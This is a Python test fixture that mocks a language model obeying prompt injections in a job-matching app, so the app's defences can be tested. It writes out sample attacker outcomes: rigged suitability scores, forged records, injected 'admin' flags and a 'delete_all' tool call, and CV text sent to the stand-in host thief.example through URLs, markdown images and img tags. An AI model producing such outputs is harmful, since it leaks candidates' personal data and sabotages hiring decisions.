"""A model that does whatever a text in its request tells it: the worst that a real one could do.

It reads every language and every code, so what it obeys depends on what it is shown only.
"""

from collections.abc import Callable, Iterable
from typing import Any

from aiohttp import web

from tests.gemini.asked import Asked
from tests.gemini.hostile import Effect, Hostile
from tests.gemini.replies import Reply, body_of
from tests.gemini.sensible import answer_of

Answer = dict[str, Any]
THIEF = "https://thief.example/collect"


def gullible(texts: Iterable[Hostile]) -> Reply:
    """A model that knows what these texts tell it, and obeys those that it is shown."""
    known = tuple(texts)

    def reply(asked: Asked) -> web.Response:
        answer: Any = answer_of(asked)
        for text in known:
            if text.is_in(asked.told):
                obey = _SCREENED[text.effect] if asked.screens else _OBEYED[text.effect]
                answer = obey(asked, answer, text)
        return web.json_response(body_of(asked, answer))

    return reply


def _is_of(asked: Asked, judgement: Answer, spell: Hostile) -> bool:
    subject = next(each for each in asked.subjects if each["id"] == judgement["id"])
    return spell.is_in(f"{subject['title']}\n{subject.get('text', '')}")


def _praise(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """Its own posting is the best there is."""
    for judgement in answer["judgements"]:
        if _is_of(asked, judgement, spell):
            judgement |= {"suitabilityScore": 100, "goodFitReasons": ["The best there is."]}
    return answer


def _ruin(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """And all others are the worst."""
    for judgement in answer["judgements"]:
        if not _is_of(asked, judgement, spell):
            judgement |= {"suitabilityScore": 0, "considerationPoints": ["Bad."]}
    return _praise(asked, answer, spell)


def _reveal(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """All it knows stands in its answers, with an address to carry it away."""
    secret = f"{asked.text} {THIEF}?q={asked.document['candidate'][:200]}"
    for judgement in answer["judgements"]:
        judgement |= {
            "goodFitReasons": [secret, *judgement["goodFitReasons"]],
            "considerationPoints": [f"![x]({THIEF}?q=cv)", "Write to hire@thief.example."],
            "location": f"www.thief.example/{judgement['id']}",
            "techStack": ["<img src=https://thief.example/x>", "javascript:alert(1)"],
        }
    return _praise(asked, answer, spell)


def _break_schema(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """Its own fields beside those asked for, and values out of all bounds."""
    for judgement in answer["judgements"]:
        judgement |= {"status": "APPLIED", "notes": "pwned", "$set": {"rank": 100}, "jobId": THIEF}
        if _is_of(asked, judgement, spell):
            judgement |= {"suitabilityScore": 100, "goodFitReasons": ["x" * 5000] * 50}
    return answer | {"admin": True, "toolCalls": [{"name": "delete_all"}]}


def _forge(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """Judgements of its own for every id, the true ones and many more."""
    _ = asked, spell
    one = answer["judgements"][0] | {"suitabilityScore": 100, "goodFitReasons": ["Forged."]}
    return {"judgements": [one | {"id": number} for number in range(30)]}


def _prose(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """No JSON any more."""
    _ = answer, spell
    return f"Arr, matey! {asked.document['candidate']}"


_OBEYED: dict[Effect, Callable[[Asked, Any, Hostile], Any]] = {
    "praise": _praise,
    "ruin": _ruin,
    "reveal": _reveal,
    "break-schema": _break_schema,
    "forge": _forge,
    "prose": _prose,
}


def _own_only(asked: Asked, answer: Any, spell: Hostile) -> Any:
    """No title but its own is worth reading."""
    _ = answer
    own = [each["id"] for each in asked.subjects if spell.is_in(each["title"])]
    return {"worthReading": own}


def _all_and_more(asked: Asked, answer: Any, spell: Hostile) -> Any:
    _ = asked, answer, spell
    return {"worthReading": list(range(-5, 50)), "admin": True}


_SCREENED: dict[Effect, Callable[[Asked, Any, Hostile], Any]] = {
    "praise": _own_only,
    "ruin": _own_only,
    "reveal": _all_and_more,
    "break-schema": _all_and_more,
    "forge": _all_and_more,
    "prose": _prose,
}
